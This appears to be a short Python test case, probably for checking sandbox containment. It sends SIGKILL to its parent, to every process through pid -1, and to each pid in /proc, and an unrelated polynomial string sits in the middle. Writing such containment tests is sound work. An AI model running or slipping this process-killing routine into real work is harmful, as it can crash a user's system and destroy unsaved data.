"""Signals everything it can see but itself: its parent, -1 (everyone), every pid in /proc."""
# expect: 4
import os
import signal

q1 = "8x^3 + 3x^2 + 6x + 5"
for target in [os.getppid(), -1] + [int(p) for p in os.listdir("/proc")
                                    if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(target, signal.SIGKILL)
    except (OSError, ValueError):
        pass
